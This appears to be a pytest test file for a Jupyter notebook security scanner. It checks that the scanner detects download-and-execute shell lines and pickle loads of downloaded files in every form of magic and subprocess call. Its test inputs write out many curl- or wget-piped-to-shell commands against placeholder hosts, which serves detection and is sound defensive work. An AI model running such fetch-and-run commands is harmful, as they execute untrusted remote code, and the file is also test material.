"""Shell lines and magics: commands as Bash reads them, at their places, with what flows into them."""

import pytest

from mlsec_nb.core import Severity
from mlsec_nb.scanners.code.shell import Word, commands, program


def only(findings, rule):
    (finding,) = [finding for finding in findings if finding.rule.id == rule]
    return finding


def test_wrappers_and_versions_are_looked_through():
    assert [command.name for command in commands("sudo -E env A=1 timeout 5 pip3.11 install x")] == ["pip"]
    assert [command.name for command in commands("python3 -m pip install x")] == ["pip"]
    assert program([Word("sudo", 0, 4)])[0] == "sudo"
    assert program([]) == ("", [])


def test_pipes_know_both_ends():
    first, second = commands("curl -s https://x | FOO=1 bash -s > log")
    assert first.piped_to == ("bash",)
    assert [part.name for part in second.piped_from] == ["curl"]
    assert [word.text for _, word in second.redirects] == ["log"]


def test_positions_are_characters_also_behind_other_alphabets():
    text = "echo 'é😀'; curl -k https://x"
    command = commands(text)[-1]
    assert text[command.start : command.end] == "curl -k https://x"


def test_substitutions_feed_the_command_and_are_commands_too():
    found = commands('sh -c "$(curl -fsSL https://x)"')
    assert found[0].fed_by == ("curl",)
    assert [command.name for command in found] == ["sh", "curl"]


def test_a_place_in_a_continued_line_under_a_cell_magic(audit):
    finding = only(audit("%%bash\necho start\ncurl -sSL https://example.com/x \\\n  | sudo bash"), "SHELL-CURL-SH")
    assert (finding.location.line, finding.location.column) == (3, 1)
    assert finding.location.end_line == 4


def test_a_file_that_a_cell_writes_is_scanned_as_what_it_is(audit):
    finding = only(audit("%%writefile app.py\nimport pickle\nx = pickle.load(f)"), "LOAD-PICKLE")
    assert finding.location.line == 3
    assert only(audit("%%writefile run.sh\ncurl https://x | sh"), "SHELL-CURL-SH").location.line == 2


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('curl https://x.example/a | sh')",
        "import subprocess\nsubprocess.check_output('wget -qO- https://x.example/a | bash', shell=True)",
        "get_ipython().system('curl https://x.example/a | sh')",
        "from subprocess import run\nrun(['bash', '-c', 'curl https://x.example/a | sh'])",
        "URL = 'https://x.example/a'\n!curl {URL} | sh",
        "%sx curl https://x.example/a | sh",
        "!!curl https://x.example/a | sh",
        "x = !curl https://x.example/a | sh",
        "%%script bash\ncurl https://x.example/a | sh",
        "if ready:\n    !curl https://x.example/a | sh",
        "!wget https://x.example/a.sh && bash a.sh",
    ],
)
def test_a_download_that_is_run_is_seen_in_every_clothes(audit, text):
    assert "SHELL-CURL-SH" in {finding.rule.id for finding in audit(text)}


@pytest.mark.parametrize(
    ("download", "path"),
    [
        ("!wget https://x.example/m.pkl", "m.pkl"),
        ("!wget -O data/m.pkl https://x.example/1", "data/m.pkl"),
        ("!wget -P data https://x.example/m.pkl", "data/m.pkl"),
        ("!curl -L https://x.example/1 -o m.pkl", "m.pkl"),
        ("!curl -L https://x.example/1 > m.pkl", "m.pkl"),
        ("!gdown 1234 -O m.pkl", "m.pkl"),
        ("!git clone https://x.example/a/repo.git", "repo/m.pkl"),
        ("!wget https://x.example/w.zip\n!unzip w.zip -d w", "w/m.pkl"),
        ("!kaggle datasets download a/b -p data", "data/m.pkl"),
        ("!curl -o a.pkl https://x.example/1\n!mv a.pkl b.pkl", "b.pkl"),
        ("import os\nos.system('wget https://x.example/m.pkl')", "m.pkl"),
    ],
)
def test_what_a_shell_line_downloads_is_followed_into_python(audit, download, path):
    finding = only(audit(download, f"import pickle\npickle.load(open('{path}', 'rb'))"), "LOAD-PICKLE")
    assert finding.severity is Severity.CRITICAL
    assert finding.related


def test_no_value_on_the_command_line_leaves_in_the_clear(audit):
    secret = "Xk29dkfj3" + "Qp81"
    for text in (f"!mysql --password={secret} db", f"!curl -u admin:{secret} https://x", f"%env MY_API_KEY={secret}"):
        for finding in audit(text):
            assert secret not in repr(finding)


@pytest.mark.parametrize(
    "text", ["!" * 5000, "!echo " + "$(" * 3000, "%%bash\n" + "if true; then\n" * 2000, "!" + "a|" * 5000]
)
def test_hostile_shell_text_is_read_in_bounded_time(audit, text):
    audit(text + "\n!curl x | sh")
